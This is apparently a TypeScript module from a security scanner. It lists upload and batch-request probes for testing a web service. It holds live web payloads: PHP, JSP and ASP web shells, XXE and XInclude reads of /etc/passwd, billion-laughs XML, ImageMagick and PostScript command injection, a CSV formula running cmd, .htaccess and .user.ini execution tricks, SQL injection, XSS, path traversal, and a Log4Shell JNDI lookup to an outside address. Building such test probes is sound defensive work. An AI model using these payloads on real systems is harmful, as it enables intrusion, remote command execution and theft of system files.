import type { Probe } from '../probe.ts';
import { mixedRequest, requestProbe, uploadRequest } from '../upload.ts';

const ENTITY = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>';
const INJECTED = "1' union select password from users--";

const FILES: readonly (readonly [name: string, type: string, content: string | Buffer])[] = [
  ['x.php', 'application/octet-stream', "<?php system($_GET['c']); ?>"],
  ['x.md', 'text/markdown', "Hello <?php system($_GET['c']); ?>"],
  ['x.txt', 'text/plain', '<?=`$_GET[0]`?>'],
  ['y.txt', 'text/plain', '<?=$_GET[0]($_GET[1])?>'],
  ['x.csv', 'text/csv', '<?php eval(base64_decode("aWQ=")); ?>'],
  ['x.log', 'text/plain', '<?php $f = $_REQUEST["f"]; $f($_REQUEST["x"]); ?>'],
  ['x.jpg', 'image/jpeg', '<?php phpinfo();'],
  ['x.gif', 'image/gif', 'GIF89a;<?php phpinfo(); ?>'],
  ['x.php.txt', 'text/plain', '<?php echo 1;'],
  [
    'x.svg',
    'image/svg+xml',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
  ],
  ['late.xml', 'text/xml', `<!-- ${'a'.repeat(9_000)} -->${ENTITY}`],
  ['wide.xml', 'text/xml', Buffer.from(`\ufeff${ENTITY}`, 'utf16le')],
  ['dtd.xml', 'text/xml', '<!DOCTYPE r SYSTEM "http://203.0.113.9/x.dtd"><r/>'],
  ['laughs.xml', 'text/xml', '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><l>&b;</l>'],
  [
    'include.xml',
    'text/xml',
    '<r xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/passwd" parse="text"/></r>',
  ],
  [
    'image.svg',
    'image/svg+xml',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>',
  ],
  ['x.mvg', 'image/x-mvg', 'push graphic-context\nfill \'url(https://203.0.113.9/a.jpg"|id ")\'\npop graphic-context'],
  ['x.eps', 'application/postscript', '%!PS\n(%pipe%id > /tmp/x) (w) file'],
  ['jsp.txt', 'text/plain', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
  ['asp.txt', 'text/plain', '<%eval request("c")%>'],
  ['cell.csv', 'text/csv', "id,name\n1,=cmd|' /C calc'!A0\n"],
  ['.htaccess', 'text/plain', 'AddType application/x-httpd-php .jpg\n'],
  ['.user.ini', 'text/plain', 'auto_prepend_file=x.jpg\n'],
  ['blob', 'application/octet-stream', INJECTED],
  ['x.json', 'application/json', JSON.stringify({ a: INJECTED })],
  ['x.dat', 'application/octet-stream', JSON.stringify({ a: INJECTED })],
];

const HTTP = 'application/http';

/** Attacks by uploaded files and by the parts of a batch. */
export const uploadAttacks: readonly Probe[] = [
  ...FILES.map(([name, type, content]) => requestProbe(`upload ${name}`, uploadRequest(name, type, content))),
  ...[
    "GET /Meters?$filter=1'%20union%20select%20password%20from%20users-- HTTP/1.1\r\n\r\n",
    'POST /Meters HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"Name":"<script>alert(1)</script>"}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a payload
    'GET /Meters HTTP/1.1\r\nX-Name: ${jndi:ldap://203.0.113.9/a}\r\n\r\n',
    'GET /files/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\n\r\n',
    `POST /Meters HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n${ENTITY}`,
  ].map((part, i) => requestProbe(`batch ${i}`, mixedRequest('mixed', [[HTTP, part]]))),
  requestProbe('part of text', mixedRequest('mixed', [['text/plain', INJECTED]])),
];
